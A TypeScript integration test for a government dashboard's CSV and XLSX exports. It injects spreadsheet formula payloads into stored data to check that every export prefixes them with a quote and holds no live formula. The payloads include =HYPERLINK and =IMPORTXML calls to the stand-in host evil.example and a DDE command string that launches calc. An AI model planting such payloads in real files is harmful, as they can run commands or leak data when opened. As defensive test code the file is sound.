// Exports neutralise spreadsheet formulas. Formula-looking text is put into data the exports carry — indicator
// names and definitions, an agency's name, a meeting and a task (through the real admin and committee services),
// an officer's note (through the real save), a locality's name (written directly: no service renames a unit in
// place) — then every CSV and XLSX export is downloaded through its real route handler. Each injected value must
// come out with a leading quote, and no cell anywhere may be a live formula. Everything is restored afterwards.
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, inject, it, vi } from "vitest";
import { GET as brief } from "../../app/api/committee/brief/route";
import { GET as exportLocalities } from "../../app/api/committee/export/localities/route";
import { GET as exportOverview } from "../../app/api/committee/export/overview/route";
import { GET as exportTasks } from "../../app/api/committee/export/tasks/route";
import { GET as exportTracker } from "../../app/api/committee/export/tracker/route";
import { GET as template } from "../../app/api/entry/template/route";
import { GET as corrections } from "../../app/api/public/v1/corrections/[file]/route";
import { GET as indicators } from "../../app/api/public/v1/indicators/[file]/route";
import { GET as localities } from "../../app/api/public/v1/localities/[file]/route";
import { GET as ranking } from "../../app/api/public/v1/ranking/[file]/route";
import { GET as scoreboard } from "../../app/api/public/v1/scoreboard/[file]/route";
import { runAsCaller } from "../../lib/server/auth";
import type { PrismaClient } from "../../lib/server/prisma-client";
import { renameAgency } from "../../lib/server/services/agencies";
import { updateIndicator } from "../../lib/server/services/indicators";
import { saveActuals } from "../../lib/server/services/reporting";
import { createTaskFromConclusion, recordMeeting } from "../../lib/server/services/tasks";
import type { Viewer } from "../../lib/server/viewer";
import { APP_TODAY, loadHostileContext, type HostileContext } from "../support/hostile-context";
import { setEnv } from "../support/hostile-harness";
import { connectTestDb, viewerFor } from "./support";

vi.mock("next/cache", () => import("../support/hostile-next-cache"));
vi.mock("next-intl/server", () => import("../support/hostile-intl"));

const now = new Date(`${APP_TODAY}T05:00:00Z`);
const today = new Date(`${APP_TODAY}T00:00:00Z`);
/** What a spreadsheet runs as a formula when a cell starts with it. */
const LIVE = /^[=+\-@\t\r]/;
const NUMBER = /^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i;

const INJECTED = {
  indicatorName: "=HYPERLINK(\"http://evil.example\",\"Bấm vào đây\")",
  indicatorNameEn: "+SUM(1,1) online applications",
  definition: "-2+3 định nghĩa có công thức",
  source: "@SUM(A1:A9) nguồn",
  agencyName: "=cmd|' /C calc'!A0 Sở TT&TT",
  meetingTitle: "+1+1 Phiên họp Ban Chỉ đạo",
  taskTitle: "=IMPORTXML(\"http://evil.example\",\"//a\")",
  note: "=HYPERLINK(\"http://evil.example\")",
  localityName: "\t=1+1 Phường Kiểm Thử",
};

let db: PrismaClient;
let ctx: HostileContext;
let admin: Viewer;
let committee: Viewer;
let officer: Viewer;
const restore: (() => Promise<unknown>)[] = [];

async function injectIndicator(code: string, agencyId: number) {
  const original = await db.indicator.findUniqueOrThrow({ where: { code } });
  const fields = (nameVi: string, nameEn: string, definition: string, source: string, leadAgencyId: number | null) => ({
    indicatorId: original.id, nameVi, nameEn, definition, source, leadAgencyId: leadAgencyId === null ? "" : String(leadAgencyId),
    numeratorDefinition: original.numeratorDefinition ?? "", denominatorDefinition: original.denominatorDefinition ?? "", active: String(original.active),
  });
  await updateIndicator(admin, fields(`${INJECTED.indicatorName} ${code}`, INJECTED.indicatorNameEn, INJECTED.definition, INJECTED.source, agencyId), db, now);
  restore.push(() => updateIndicator(admin, fields(original.nameVi, original.nameEn, original.definition, original.source, original.leadAgencyId), db, now));
}

let restoreEnv = () => {};

beforeAll(async () => {
  restoreEnv = setEnv({ DATABASE_URL: inject("databaseUrl"), APP_TODAY });
  db = connectTestDb();
  ctx = await loadHostileContext(db);
  [admin, committee, officer] = await Promise.all(["admin@demo.cds.vn", "bcd@demo.cds.vn", "phuong.tan-phuc@demo.cds.vn"].map((email) => viewerFor(db, email))) as [Viewer, Viewer, Viewer];

  const agency = await db.agency.findUniqueOrThrow({ where: { id: ctx.agencyId } });
  await renameAgency(admin, { agencyId: agency.id, name: INJECTED.agencyName, shortName: agency.shortName }, db, now);
  restore.push(() => renameAgency(admin, { agencyId: agency.id, name: agency.name, shortName: agency.shortName }, db, now));
  const officerIndicator = await db.indicator.findUniqueOrThrow({ where: { id: ctx.officerActual.indicatorId } });
  const corrected = await db.actualRevision.findFirst({ where: { reason: { not: null } }, include: { actual: { include: { indicator: true } } } });
  for (const code of new Set([officerIndicator.code, corrected?.actual.indicator.code ?? officerIndicator.code])) await injectIndicator(code, agency.id);

  const { meetingId } = await recordMeeting(committee, { heldOn: "2026-09-10", title: INJECTED.meetingTitle, chair: "Chủ tịch UBND tỉnh", attendees: "Thành viên Ban Chỉ đạo", conclusions: ["Giao nhiệm vụ kiểm thử xuất tệp."] }, db);
  const conclusion = await db.conclusion.findFirstOrThrow({ where: { meetingId } });
  await createTaskFromConclusion(committee, { title: INJECTED.taskTitle, kind: "TASK", pillarCode: "GOV", leadAgencyId: String(agency.id), deadline: "2026-12-31", conclusionId: String(conclusion.id) }, db);
  restore.push(async () => {
    const tasks = await db.task.findMany({ where: { conclusion: { meetingId } }, select: { id: true } });
    const taskIds = tasks.map((t) => t.id);
    await db.taskAgency.deleteMany({ where: { taskId: { in: taskIds } } });
    await db.taskLocality.deleteMany({ where: { taskId: { in: taskIds } } });
    await db.taskIndicator.deleteMany({ where: { taskId: { in: taskIds } } });
    await db.task.deleteMany({ where: { id: { in: taskIds } } });
    await db.conclusion.deleteMany({ where: { meetingId } });
    await db.meeting.delete({ where: { id: meetingId } });
  });

  const save = async (note: string) => {
    const stored = await db.actual.findUniqueOrThrow({ where: { id: ctx.officerActual.id } });
    await saveActuals(officer, {
      periodId: ctx.period.id, reporter: { localityId: ctx.officerLocalityId, agencyId: null },
      items: [{ indicatorId: String(stored.indicatorId), version: String(stored.version), value: String(stored.value), note }],
    }, db, today);
  };
  await save(INJECTED.note);
  restore.push(() => save(ctx.officerActual.note));

  const unit = await db.locality.findUniqueOrThrow({ where: { id: ctx.officerLocalityId } });
  await db.locality.update({ where: { id: unit.id }, data: { name: INJECTED.localityName } });
  restore.push(() => db.locality.update({ where: { id: unit.id }, data: { name: unit.name } }));
});

afterAll(async () => {
  for (const undo of restore.reverse()) await undo();
  await db.$disconnect();
  restoreEnv();
});

/** Every cell of a CSV or XLSX file, as text; a formula cell comes back as "FORMULA:<formula>". */
async function cellsOf(response: Response, what: string): Promise<string[]> {
  expect(response.status, `${what}: ${response.status === 200 ? "" : await response.clone().text()}`).toBe(200);
  const bytes = Buffer.from(await response.arrayBuffer());
  if ((response.headers.get("content-type") ?? "").startsWith("text/csv")) {
    return (parse(bytes.toString("utf8").replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][]).flat();
  }
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(bytes).buffer);
  const cells: string[] = [];
  workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => {
    cells.push(cell.type === ExcelJS.ValueType.Formula ? `FORMULA:${cell.formula}` : typeof cell.value === "number" ? String(cell.value) : cell.text);
  })));
  return cells;
}

const file = (route: (r: Request, c: { params: Promise<{ file: string }> }) => Promise<Response>, name: string) =>
  route(new Request(`http://localhost/api/public/v1/x/${name}`), { params: Promise.resolve({ file: name }) });
const as = (caller: "committee" | "officer", route: (r: Request) => Promise<Response>, search = "") =>
  runAsCaller(ctx.users[caller], () => route(new Request(`http://localhost/api/x?${search}`)));

describe("every CSV and XLSX export", () => {
  it("puts a quote before text a spreadsheet would run as a formula, and holds no live formula", async () => {
    const officerIndicator = await db.indicator.findUniqueOrThrow({ where: { id: ctx.officerActual.indicatorId } });
    const exports: [string, () => Promise<Response>, string[]][] = [
      ["public scoreboard latest.csv", () => file(scoreboard, "latest.csv"), ["indicatorName", "indicatorNameEn", "agencyName"]],
      ["public indicators all.csv", () => file(indicators, "all.csv"), ["indicatorName", "indicatorNameEn", "definition", "source", "agencyName"]],
      [`public indicators ${officerIndicator.code}.csv`, () => file(indicators, `${officerIndicator.code}.csv`), ["localityName"]],
      ["public localities all.csv", () => file(localities, "all.csv"), ["localityName"]],
      ["public ranking latest.csv", () => file(ranking, "latest.csv"), ["localityName"]],
      ["public corrections all.csv", () => file(corrections, "all.csv"), ["indicatorName"]],
      ["committee overview.xlsx", () => as("committee", exportOverview), ["indicatorName", "agencyName"]],
      ["committee localities.xlsx", () => as("committee", exportLocalities, "level=COMMUNE"), ["localityName"]],
      ["committee tasks.xlsx", () => as("committee", exportTasks), ["taskTitle", "meetingTitle", "agencyName"]],
      ["committee tracker.xlsx", () => as("committee", exportTracker, "period=2026-Q3"), ["localityName"]],
      ["committee brief.xlsx", () => as("committee", brief, "format=xlsx"), ["indicatorName", "agencyName"]],
      ["officer template.csv", () => as("officer", template, "period=2026-Q3&format=csv"), ["indicatorName", "note", "localityName"]],
      ["officer template.xlsx", () => as("officer", template, "period=2026-Q3&format=xlsx"), ["indicatorName", "note", "localityName"]],
    ];
    for (const [what, download, expected] of exports) {
      const cells = await cellsOf(await download(), what);
      expect(cells.filter((c) => c.startsWith("FORMULA:")), `${what}: formula cells`).toEqual([]);
      expect(cells.filter((c) => LIVE.test(c) && !NUMBER.test(c)), `${what}: cells a spreadsheet would run`).toEqual([]);
      // The injected text reached the file: quoted where it opens a cell, inert inside a longer one (checked above).
      for (const key of expected) {
        const value = INJECTED[key as keyof typeof INJECTED];
        expect(cells.filter((c) => c.includes(value)).length, `${what}: ${key} is exported`).toBeGreaterThan(0);
        expect(cells.filter((c) => c.includes(value) && !c.startsWith(`'${value}`) && c.startsWith(value)), `${what}: ${key} opens a cell unquoted`).toEqual([]);
      }
    }
  });
});
